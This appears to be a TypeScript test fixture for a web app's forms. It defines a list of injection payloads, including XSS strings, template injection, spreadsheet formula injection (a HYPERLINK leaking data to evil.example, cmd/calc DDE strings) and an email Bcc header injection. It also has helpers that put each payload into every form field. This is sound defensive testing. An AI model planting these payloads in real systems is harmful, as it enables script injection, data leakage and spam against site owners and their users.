import type { BetaApplication } from '#contracts/beta.ts'
import type { QuizSubmission } from '#contracts/quiz.ts'
import type { SurveySubmission } from '#contracts/survey.ts'
import { application, exitSurvey, quiz } from './sample-forms.ts'

/** Injection attempts for the admin area, emails and spreadsheets. Each fits into the shortest field. */
export const scriptPayloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></form><img src onerror=alert(1)>',
  'javascript:alert(1)',
  'java\tscript:alert(1)//https://x.example',
  'data:text/html,<script>alert(1)</script>',
  '" autofocus onfocus="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '`><img src=`x`onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '</title></style><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: part of the payload
  '${alert(1)} #{alert(1)} <%= alert(1) %>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '[x](javascript:alert(1)) ![x](//evil.example/x.png)',
  '＜script＞alert(1)＜/script＞ \u202e>tpircs<',
  '%3Cscript%3Ealert(1)%3C/script%3E &lt;b&gt;',
  "=cmd|' /C calc'!A0",
  '+1+HYPERLINK("//evil.example?"&A1,"x")',
  "-2+3+cmd|' /C calc'!A0",
  "\t@SUM(1+1)*cmd|' /C calc'!A0",
  'Eve\r\nBcc: all@evil.example\r\n\r\n=1+1<b>x</b>',
] as const

export const collapseSpaces = (text: string) => text.replace(/\s+/g, ' ').trim()

const visitWith = (text: string) => ({
  firstPage: text,
  referrerHost: text,
  utmSource: text,
  utmMedium: text,
  utmCampaign: text,
  utmTerm: text,
  utmContent: text,
})

const contactWith = (text: string, email: string) => ({ name: text, email, phone: text, businessName: text })

export const surveyWith = (text: string, email: string): SurveySubmission => ({
  ...exitSurvey,
  contactInfo: contactWith(text, email),
  answers: { ...exitSurvey.answers, bottlenecks: [text, text, text] },
  visit: visitWith(text),
})

export const quizWith = (text: string, email: string): QuizSubmission => ({
  contactInfo: contactWith(text, email),
  // Questions that took more than one attempt appear in more places.
  results: quiz.results.map(result => ({
    ...result,
    attempts: 2,
    question: text,
    userAnswer: text,
    correctAnswer: text,
  })),
  visit: visitWith(text),
})

/** Long answers have a minimum length. */
const long = (text: string) => `${text} and so on`

export const applicationWith = (text: string, email: string): BetaApplication => ({
  ...application,
  fullName: text,
  businessName: text,
  businessWebsite: text,
  email,
  phone: text,
  industry: text,
  goals: long(text),
  challenges: long(text),
  magicWandFix: long(text),
  whyGoodFit: long(text),
  additionalInfo: text,
  visit: visitWith(text),
})

export const eventWith = (text: string, sessionId: string) => ({
  sessionId,
  eventType: 'question_viewed',
  questionId: text,
  stepIndex: '2',
  payload: { [text]: text },
})
